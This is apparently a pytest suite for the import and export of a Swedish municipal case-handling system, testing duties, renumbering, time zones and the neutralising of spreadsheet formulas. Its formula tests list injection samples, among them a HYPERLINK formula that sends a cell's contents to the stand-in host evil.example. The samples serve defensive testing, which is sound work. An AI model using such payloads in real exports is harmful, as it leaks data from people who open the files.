"""Moves of what the demonstration lacks: rare columns, names that are taken, duties, and files with few columns."""

import csv
import re
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select
from support.houses.demonstration import Copy
from support.houses.moving import MOVED_AT, differences, export_to, exported, furnish_rarely, import_from
from support.houses.small_house import CALENDAR, MONDAY, SmallHouse, furnish, open_small_house

from cases.case import Case
from cases.checks.forgotten import find_forgotten
from cases.handing_in import Reporter
from cases.history.words import Visibility
from cases.imports.columns import COLUMNS
from cases.imports.exporting import Row
from cases.imports.formats.writing import CsvForm
from cases.imports.importing import Clocks, Imported, ImportOrder, examine, report_bad
from cases.imports.kept import KEPT_COLUMNS
from cases.imports.tables import read_table
from cases.organisation.municipality import municipality
from cases.parties import Follower, Party
from cases.states import State

AT = MOVED_AT
OWED = 4  # of the two groups of the small house: a plan and a contact each
Open = Callable[[], SmallHouse]


@pytest.fixture
def new_house(copy_house: Copy) -> Iterator[Open]:
    """`new_house()`: a small municipality without cases; all of them are copies of one database."""
    made: list[SmallHouse] = []

    def open_one() -> SmallHouse:
        made.append(open_small_house(copy_house("small_house", furnish)))
        return made[-1]

    yield open_one
    for house in made:
        house.database.close()


def _name(house: SmallHouse, name: str) -> SmallHouse:
    with house.database.transaction() as session:
        municipality(session).export_name = name
    return house


def _file(folder: Path, heading: str, *lines: str) -> Path:
    path = folder / "cases.csv"
    path.write_text("\n".join([heading, *lines]) + "\n", encoding="utf-8")
    return path


def _cases(house: SmallHouse) -> list[Case]:
    """Return the cases that came in; what the groups owe, each import ensures at its end."""
    with house.database.reading() as session:
        return list(session.scalars(select(Case).where(Case.obligation.is_(None)).order_by(Case.id)))


def _came_in(house: SmallHouse) -> list[Row]:
    """Return the rows of an export of the cases that came in."""
    return [row for row in exported(house.database) if row["obligation"] is None]


def _forgotten(house: SmallHouse, at: datetime) -> list[str]:
    with house.database.reading() as session:
        return [str(breach) for breach in find_forgotten(session, at) if breach.guarantee != "G4"]


# --- rare columns --------------------------------------------------------------------------


def test_rare_columns_move_too_and_the_ladder_goes_on(new_house: Open, tmp_path: Path) -> None:
    first = new_house()
    furnish_rarely(first)
    assert _forgotten(first, MOVED_AT) == []
    wanted, path = exported(first.database), export_to(tmp_path / "0.csv", first.database)
    assert {row["state"] for row in wanted} >= {"received", "assigned", "in_progress", "waiting", "parked", "closed"}
    for number, clocks in enumerate(Clocks, start=1):
        house = new_house()
        assert import_from(path, house.database, AT, clocks) == (Imported(written=len(wanted)), [])
        assert differences(wanted, exported(house.database)) == []
        assert _forgotten(house, AT) == []
        path = export_to(tmp_path / f"{number}.csv", house.database)
    later = AT + timedelta(days=30)
    for one in (first, house):
        for day in range(1, 31):
            one.sweep(AT + timedelta(days=day))
        assert _forgotten(one, later) == []
    ladders = [
        {case.ref: (case.state, case.rung, case.rung_at, case.life_at, case.statutory_at) for case in _cases(one)}
        for one in (first, house)
    ]
    assert {ref: ladders[1][ref] for ref in ladders[0]} == ladders[0]


def test_every_column_of_the_export_is_filled_by_one_of_these_moves(new_house: Open) -> None:
    house = new_house()
    furnish_rarely(house)
    filled = {name for row in exported(house.database) for name, value in row.items() if value not in {None, ""}}
    elsewhere = {"category", "place", "origin"}  # the demonstration has the first two
    assert set(exported(house.database)[0]) - filled <= elsewhere


# --- what a file with few columns tells ----------------------------------------------------


def test_what_a_file_tells_of_open_cases_is_not_dropped(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    with house.database.transaction() as session:
        municipality(session).proposals = True
    path = _file(
        tmp_path,
        "source,external_id,kind,state,title,responsible,received_at,changed_at,note,quick_win,raised_on",
        "x,1,proposal,assigned,Förslag,gata,2026-02-02,2026-02-03,Frågan är skickad.,yes,2026-02-28",
        "x,2,issue,received,Lampa,,2026-02-02,,Ring mig gärna.,no,",
        "x,3,issue,waiting,Lampa,gata,2026-02-02,,Vi har frågat.,ja,",
    )
    path.write_text(
        path.read_text().replace("raised_on\n", "raised_on,waiting_for\n").replace("ja,\n", "ja,,reporter\n")
    )
    import_from(path, house.database, MONDAY)
    proposal, lamp, waiting = _cases(house)
    assert (proposal.quick_win, proposal.raised_on) == (True, date(2026, 2, 28))
    assert CALENDAR.day_of(proposal.statutory_due_at) == date(2027, 3, 1)
    assert (lamp.quick_win, waiting.quick_win) == (False, True)
    assert [row["note"] for row in _came_in(house)] == [
        "Frågan är skickad.", "Ring mig gärna.", "Vi har frågat.",
    ]  # fmt: skip


def test_an_import_makes_up_no_words_and_no_promises(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    heading = "source,external_id,state,title,received_at,responsible,due_on"
    import_from(_file(tmp_path, heading, "x,1,planned,Lampa,2026-02-02,gata,2026-09-01"), house.database, MONDAY)
    (row,) = _came_in(house)
    assert (row["note"], row["promised_on"], row["due_on"]) == (None, None, date(2026, 9, 1))


@pytest.mark.parametrize(
    ("promised_on", "outcome"), [("2026-02-27", "kept"), ("2026-02-19", "broken"), ("2026-02-20", "kept")]
)
def test_a_promise_of_an_ended_case_is_judged_by_its_days(
    new_house: Open, tmp_path: Path, promised_on: str, outcome: str
) -> None:
    house = new_house()
    heading = "source,external_id,state,title,received_at,ended_at,promised_on"
    path = _file(tmp_path, heading, f"x,1,closed,Lampa,2026-02-02,2026-02-20 10:00,{promised_on}")
    import_from(path, house.database, MONDAY)
    assert exported(house.database)[0]["promise"] == outcome


# --- duties --------------------------------------------------------------------------------

DUTIES = "source,external_id,kind,state,title,received_at,ended_at,due_on,every_months,responsible"
ENDED = "x,1,duty,closed,Årsredovisning 2024,2024-01-10,2025-03-31,2025-03-31,12,gata"
NEXT = "x,2,duty,planned,Årsredovisning 2025,2025-03-31,,2026-03-31,12,gata"


@pytest.mark.parametrize("clocks", Clocks)
@pytest.mark.parametrize("lines", [(ENDED, NEXT), (NEXT, ENDED)])
def test_an_ended_duty_makes_no_next_one_beside_that_of_the_file(
    new_house: Open, tmp_path: Path, lines: tuple[str, ...], clocks: Clocks
) -> None:
    house = new_house()
    done, told = import_from(_file(tmp_path, DUTIES, *lines), house.database, MONDAY, clocks)
    assert (done.written, told, len(_cases(house))) == (2, [], 2)
    assert {case.duty_on for case in _cases(house)} == {date(2025, 3, 31), date(2026, 3, 31)}
    assert _forgotten(house, MONDAY) == []


def test_an_ended_duty_without_a_next_one_gets_exactly_one_and_it_is_told(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    earlier = "x,0,duty,closed,Årsredovisning 2023,2023-01-10,2024-03-28,2024-03-31,12,gata"
    path = _file(tmp_path, DUTIES, ENDED, earlier)
    told = import_from(path, house.database, MONDAY)[1]
    assert told == ["2 odd: the duty comes again and the file has no next one: the import makes it"]
    (made,) = [case for case in _cases(house) if case.is_open]
    assert (made.duty_on, made.duty_first_on) == (date(2026, 3, 31), date(2025, 3, 31))
    assert import_from(path, house.database, MONDAY) == (Imported(there_already=2), [])
    assert len(_cases(house)) == 3
    assert _forgotten(house, MONDAY) == []


def test_an_ended_duty_makes_no_next_one_beside_that_of_the_house(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    import_from(_file(tmp_path, DUTIES, NEXT), house.database, MONDAY)
    assert import_from(_file(tmp_path, DUTIES, ENDED), house.database, MONDAY) == (Imported(written=1), [])
    assert len(_cases(house)) == 2


def test_a_duty_beside_an_open_one_of_the_house_is_told(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    import_from(_file(tmp_path, DUTIES, ENDED), house.database, MONDAY)
    (made,) = [case for case in _cases(house) if case.is_open]
    path = _file(tmp_path, DUTIES, NEXT)
    done, told = import_from(path, house.database, MONDAY)
    why = f"{made.ref} is here already, an open duty like it of 2026-03-31: there are two then"
    assert (done.written, told) == (1, [f"2 odd: {why}"])
    assert import_from(path, house.database, MONDAY) == (Imported(there_already=1), [])
    path = export_to(tmp_path / "again.csv", house.database)
    assert import_from(path, house.database, MONDAY) == (Imported(there_already=3 + OWED), [])


@pytest.mark.parametrize("ending", ["declined", "merged"])
def test_a_row_of_duties_that_was_ended_on_purpose_stays_ended(new_house: Open, tmp_path: Path, ending: str) -> None:
    house = new_house()
    into = "1" if ending == "merged" else ""
    last = f"x,2,duty,{ending},Årsredovisning 2025,2025-03-31,2025-06-01,2026-03-31,12,gata,{into}"
    path = _file(tmp_path, f"{DUTIES},merged_into", f"{ENDED},", last)
    if ending == "merged":
        path = _file(tmp_path, f"{DUTIES},merged_into", "x,1,issue,closed,A,2024-01-10,2025-07-01,,,gata,", last)
    assert import_from(path, house.database, MONDAY)[1] == []
    assert len(_cases(house)) == 2


# --- names ---------------------------------------------------------------------------------


def test_importing_ones_own_export_doubles_nothing(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    for title in ("Lampa", "Grop"):
        house.hand_in(title)
    path = export_to(tmp_path / "own.csv", house.database)
    assert import_from(path, house.database, AT) == (Imported(there_already=2), [])
    with house.database.transaction() as session:
        session.scalars(select(Case)).first().public_id = "a-key-that-was-changed"
    assert import_from(path, house.database, AT) == (Imported(there_already=2), [])


@pytest.mark.parametrize("is_clone", [True, False])
def test_equal_numbers_of_two_houses_do_not_collide(new_house: Open, tmp_path: Path, is_clone: bool) -> None:
    first, second, third = new_house(), new_house(), new_house()
    if not is_clone:
        _name(first, "ventil-norr"), _name(second, "ventil-soder"), _name(third, "ventil-vast")
    for number in range(3):
        first.hand_in(f"Norr {number}")
    second.hand_in("Söder", at=MONDAY + timedelta(hours=1))
    path, at = export_to(tmp_path / "norr.csv", first.database), MONDAY + timedelta(hours=2)
    done, _ = import_from(path, second.database, at)
    assert (done.written, done.renumbered) == (3, {"2026-0001": "2026-0004"})
    assert second.hand_in("Den därpå", at=at) == "2026-0009"
    assert {case.ref: case.title for case in _cases(second)} == {
        "2026-0001": "Söder", "2026-0002": "Norr 1", "2026-0003": "Norr 2", "2026-0004": "Norr 0",
        "2026-0009": "Den därpå",
    }  # fmt: skip
    assert import_from(path, second.database, at) == (Imported(there_already=3), [])
    both = export_to(tmp_path / "both.csv", second.database)
    done, told = import_from(both, third.database, at)
    assert (done.written, told) == (5 + OWED, [])
    assert exported(third.database) == exported(second.database)


def test_two_houses_do_not_collide_either_when_their_files_went_through_other_hands(
    new_house: Open, tmp_path: Path
) -> None:
    first, second, third = (_name(new_house(), f"ventil-{name}") for name in ("norr", "soder", "vast"))
    first.hand_in("Norr")
    second.hand_in("Söder")
    path = export_to(tmp_path / "norr.csv", first.database, CsvForm.MACHINE)
    with path.open(encoding="utf-8", newline="") as file:
        rows = [{name: text for name, text in row.items() if name != "public_id"} for row in csv.DictReader(file)]
    path = _file(tmp_path, ",".join(rows[0]), *(",".join(row.values()) for row in rows))
    for _ in range(2):
        import_from(path, second.database, MONDAY)
    keys = {(row["source"], row["external_id"]) for row in _came_in(second)}
    assert keys == {("ventil-norr", "2026-0001"), ("ventil-soder", "2026-0001")}
    both = export_to(tmp_path / "both.csv", second.database)
    assert import_from(both, third.database, MONDAY) == (Imported(written=2 + OWED), [])


def test_links_that_citizens_hold_go_on_working(new_house: Open, tmp_path: Path) -> None:
    first, second = new_house(), new_house()
    case = first.case(first.hand_in("Lampa"))
    import_from(export_to(tmp_path / "cases.csv", first.database), second.database, AT)
    assert second.case(case.ref).public_id == case.public_id


def test_who_follows_a_case_follows_it_on_and_who_left_does_not(new_house: Open, tmp_path: Path) -> None:
    first, second = new_house(), new_house()
    furnish_rarely(first)
    import_from(export_to(tmp_path / "cases.csv", first.database), second.database, AT)
    following = (
        select(Party.email, Party.locale)
        .join(Follower, Follower.party_id == Party.id)
        .where(Follower.ended_at.is_(None), Follower.confirmed_at.is_not(None))
        .order_by(Party.email)
    )
    for house in (first, second):
        with house.database.reading() as session:
            assert [tuple(row) for row in session.execute(following)] == [
                ("anna@example.se", "sv"), ("bo@example.com", "en"),
            ]  # fmt: skip


def test_one_secret_word_opens_one_case(new_house: Open, tmp_path: Path) -> None:
    house, word = new_house(), "w" * 22
    rows = (f"x,{number},received,Lampa,2026-02-02,{word}" for number in (1, 2))
    path = _file(tmp_path, "source,external_id,state,title,received_at,public_id", *rows)
    done, told = import_from(path, house.database, MONDAY)
    assert (done.written, told) == (1, ["3 bad: public_id stands in row 2 already"])


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("ref", "0042"), ("ref", "2026-042"), ("ref", "2026-99999999999"), ("public_id", "2026-0001"),
        ("public_id", "short"), ("officer", "nobody@example.se"), ("note_for", "all"), ("promise", "perhaps"),
        ("agenda", "why"), ("rung", "3"), ("rung", "-1"), ("done_at", "2031-01-01"), ("waiting_from", "gone"),
    ],
)  # fmt: skip
def test_a_value_of_ours_that_cannot_be_used_is_left_out_and_told(
    new_house: Open, tmp_path: Path, column: str, value: str
) -> None:
    house = new_house()
    path = _file(
        tmp_path, f"source,external_id,state,title,received_at,{column}", f"x,1,received,Lampa,2026-02-27,{value}"
    )
    done, told = import_from(path, house.database, MONDAY)
    assert done.written == 1
    assert [line.startswith(f"2 odd: {column}") for line in told] == [True]
    assert _forgotten(house, MONDAY) == []


# --- formulas ------------------------------------------------------------------------------

FORMULAS = (
    'Lampan;=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "-5 grader i skolan", "Hej\n=1+1", "@SUMMA", "\uff1d1+1",
    "a,=1", "a|+1", 'a;"=1+1&"', "a; =1", "a\t-1", "a;'=1", "'=x", "''", "Hej\r\n\r\n@x", "a\r=1", "a;\t=1", "+46701",
)  # fmt: skip
CELL_ENDS = re.compile(r"[,;|\t]|\r\n|[\r\n]")


@pytest.mark.parametrize("ending", ["csv", "comma", "xlsx"])
def test_no_part_of_a_cell_is_a_formula_and_every_text_comes_back(new_house: Open, tmp_path: Path, ending: str) -> None:
    first, second = new_house(), new_house()
    for text in FORMULAS:
        first.hand_in(f"{text}x", description=text, reporter=Reporter(text))
    path = tmp_path / ("cases.xlsx" if ending == "xlsx" else "cases.csv")
    export_to(path, first.database, CsvForm.MACHINE if ending == "comma" else CsvForm.SPREADSHEET)
    for record in read_table(path)[1]:
        for name in ("title", "description", "reporter_name"):
            cells = CELL_ENDS.split(record.values[name])
            assert not [cell for cell in cells if cell.lstrip(' "')[:1] in set("=+-@\uff1d\0")], record.values[name]
    import_from(path, second.database, AT)
    texts = [re.sub(r"\r\n?", "\n", text) if ending == "xlsx" else text for text in FORMULAS]
    assert [(r["description"], r["reporter_name"]) for r in _came_in(second)] == [(t, t) for t in texts]


def test_a_csv_opens_in_columns_in_a_swedish_spreadsheet(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    house.hand_in("Åby", at=datetime(2026, 3, 2, 8, 30, tzinfo=MONDAY.tzinfo))
    written = export_to(tmp_path / "cases.csv", house.database).read_bytes()
    assert written.startswith('\ufeff"source";"external_id";"ref"'.encode())
    assert '"Åby"'.encode() in written
    assert b'"2026-03-02 09:30:00"' in written
    line = written.splitlines()[1].decode()
    assert all(cell.startswith('"') and cell.endswith('"') for cell in line.split(";"))
    export_to(tmp_path / "cases.csv", house.database, CsvForm.MACHINE)
    written = (tmp_path / "cases.csv").read_bytes()
    assert written.startswith(b'"source","external_id"')
    assert b'"2026-03-02T09:30:00+01:00"' in written


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_the_hour_that_comes_twice_is_told_apart(new_house: Open, tmp_path: Path, ending: str) -> None:
    first, second = new_house(), new_house()
    moments = [datetime(2025, 10, 26, hour, 30, tzinfo=MONDAY.tzinfo) for hour in (0, 1)]
    for moment in moments:
        first.hand_in(at=moment)
    import_from(export_to(tmp_path / f"cases.{ending}", first.database), second.database, AT)
    assert sorted(case.received_at for case in _cases(second)) == moments


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_moment_at_midnight_stays_one(new_house: Open, tmp_path: Path, ending: str) -> None:
    first, second = new_house(), new_house()
    line = "x,1,issue,assigned,Lampa,gata,2024-05-03,2024-05-07T00:00,"
    ended = "x,2,issue,closed,Lampa,gata,2024-05-03,,2024-05-07T00:00"
    heading = "source,external_id,kind,state,title,responsible,received_at,changed_at,ended_at"
    import_from(_file(tmp_path, heading, line, ended), first.database, MONDAY)
    import_from(export_to(tmp_path / f"out.{ending}", first.database), second.database, MONDAY)
    wanted = _came_in(first)
    assert [row["changed_at"].isoformat() for row in wanted] == ["2024-05-06T22:00:00+00:00"] * 2
    assert differences(wanted, _came_in(second)) == []


def test_an_xlsx_holds_days_and_numbers_and_no_text_of_them(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    house.hand_in("=1+1", latitude=62.5, longitude=17.25, at=datetime(2026, 3, 2, 8, 30, tzinfo=MONDAY.tzinfo))
    sheet = openpyxl.load_workbook(export_to(tmp_path / "cases.xlsx", house.database)).active
    row = dict(zip([cell.value for cell in sheet[1]], sheet[2], strict=True))
    assert row["received_at"].is_date
    assert row["received_at"].value.isoformat() == "2026-03-02T09:30:00"
    assert row["due_on"].is_date
    assert (row["latitude"].value, row["title"].value, row["title"].data_type) == (62.5, "'=1+1", "s")


def test_bad_rows_are_reported_harmless(new_house: Open, tmp_path: Path) -> None:
    house = new_house()
    order = ImportOrder(_file(tmp_path, "source,external_id,state,title,received_at", "x,1,gone,=cmd,2026-02-02"), AT)
    report_bad(order, examine(house.database, order, lambda *_: None), tmp_path / "bad.csv")
    with (tmp_path / "bad.csv").open(encoding="utf-8-sig", newline="") as file:
        assert [row["title"] for row in csv.DictReader(file)] == ["'=cmd"]


def test_what_only_participants_may_read_stays_with_them(new_house: Open, tmp_path: Path) -> None:
    first, second = new_house(), new_house()
    ref = first.reach(State.DONE)
    first.change(ref, State.ASSIGNED, by="reporter", note="Hålet är kvar", at=MONDAY + timedelta(days=3))
    import_from(export_to(tmp_path / "cases.csv", first.database), second.database, AT)
    assert exported(second.database)[0]["note_for"] == Visibility.PARTICIPANTS


def test_no_column_of_ours_is_read_past_the_list_of_them() -> None:
    handed_over = {column.name for column in COLUMNS[[column.name for column in COLUMNS].index("public_id") :]}
    assert {"ref", *handed_over} == KEPT_COLUMNS
